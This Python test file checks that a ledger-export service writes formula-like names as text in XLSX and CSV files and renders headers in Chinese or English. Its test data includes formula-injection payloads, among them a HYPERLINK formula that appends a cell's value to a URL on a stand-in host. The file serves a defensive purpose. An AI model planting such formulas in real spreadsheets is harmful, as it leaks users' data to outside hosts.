"""Every spreadsheet the service writes shows text as text (OFF-LEDGER-1 ledgers, scorecards,
reports): no cell a clerk opens in Excel or WPS is a formula, and no stored name breaks the file.
Titles and headers are rendered in the reader's language, Chinese by default (PLAT-I18N-1)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from app.domain.officers import LedgerColumn, LedgerSheet, columns
from app.i18n import Locale
from app.spreadsheets import Export, csv_lines, sheet_headers, sheet_title, write_xlsx

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"点我")', "=1+1", "+SUM(A1:A9)", "@SUM(A1)", "-2+3"]
LEADING = ["\tTAB", "\rCR"]


def xlsx_file(sheets: list[LedgerSheet], *, heading: str, locale: Locale | None = None) -> bytes:
    out = io.BytesIO()
    write_xlsx(Export(heading, sheets), out, locale)
    return out.getvalue()


def csv_file(sheets: list[LedgerSheet], *, locale: Locale | None = None) -> bytes:
    return b"".join(csv_lines(Export("台账", sheets), locale))


def _sheet(*names: str) -> LedgerSheet:
    return LedgerSheet(
        title="Officer roster",
        columns=columns("No.", "Full name", "Certified on"),
        rows=[(i, n, date(2025, 3, 1)) for i, n in enumerate(names, 1)],
    )


@pytest.mark.parametrize("name", FORMULAS)
def test_off_ledger_1_an_xlsx_keeps_a_formula_like_name_as_text(name: str) -> None:
    book = load_workbook(io.BytesIO(xlsx_file([_sheet(name)], heading="台账")))
    cell = book["科普信息员名册"]["B2"]
    assert (cell.value, cell.data_type) == (name, "s")


@pytest.mark.parametrize("name", FORMULAS + LEADING)
def test_off_ledger_1_a_csv_prefixes_a_formula_like_name_with_an_apostrophe(name: str) -> None:
    text = csv_file([_sheet(name)]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][1] == "'" + name


def test_off_ledger_1_plain_names_numbers_and_dates_are_written_as_they_are() -> None:
    text = csv_file([_sheet("张丽娟", "Anna-Lena")]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [
        ["序号", "姓名", "认证日期"],
        ["1", "张丽娟", "2025-03-01"],
        ["2", "Anna-Lena", "2025-03-01"],
    ]
    book = load_workbook(io.BytesIO(xlsx_file([_sheet("张丽娟")], heading="台账")))
    assert [c.value for c in book["科普信息员名册"][2]][:2] == [1, "张丽娟"]


def test_off_ledger_1_a_name_with_control_characters_does_not_break_the_workbook() -> None:
    book = load_workbook(io.BytesIO(xlsx_file([_sheet("王\x05明\x1b")], heading="台账")))
    assert book["科普信息员名册"]["B2"].value == "王明"
    assert csv_file([_sheet("王\x05明")]).decode("utf-8-sig").splitlines()[1] == "1,王明,2025-03-01"


def _rates() -> LedgerSheet:
    return LedgerSheet(
        title="Dissemination by month",
        columns=columns(
            "Month",
            LedgerColumn(header="Activity rate", rate=True),
            "Shares per active officer",
            LedgerColumn(header="Shares in month {month}", params={"month": 3}),
        ),
        rows=[("2024-03", 0.5, 2.5, 7), ("2024-04", None, None, 0)],
    )


def test_off_ledger_1_titles_and_headers_are_chinese_by_default() -> None:
    assert sheet_title(_rates()) == "传播统计（按月）"
    assert sheet_headers(_rates()) == ("月份", "活跃率", "活跃信息员人均分享量", "3月分享量")
    text = csv_file([_rates(), _sheet()]).decode("utf-8-sig")
    assert text.splitlines()[:3] == [
        "传播统计（按月）",
        "月份,活跃率,活跃信息员人均分享量,3月分享量",
        "2024-03,0.5,2.5,7",
    ]


def test_off_ledger_1_titles_and_headers_in_english_on_request() -> None:
    assert sheet_title(_rates(), Locale.EN) == "Dissemination by month"
    assert sheet_headers(_rates(), Locale.EN)[3] == "Shares in month 3"
    text = csv_file([_rates(), _sheet()], locale=Locale.EN).decode("utf-8-sig")
    assert text.splitlines()[1] == "Month,Activity rate,Shares per active officer,Shares in month 3"


@pytest.mark.parametrize(
    ("locale", "title"), [(Locale.ZH, "传播统计（按月）"), (Locale.EN, "Dissemination by month")]
)
def test_off_ledger_1_a_rate_column_is_a_percentage_in_either_language(
    locale: Locale, title: str
) -> None:
    book = load_workbook(io.BytesIO(xlsx_file([_rates()], heading="台账", locale=locale)))
    sheet = book[title]
    assert (sheet["B2"].value, sheet["B2"].number_format) == (0.5, "0.0%")
    assert sheet["C2"].number_format == "General"
    assert sheet["B3"].value is None
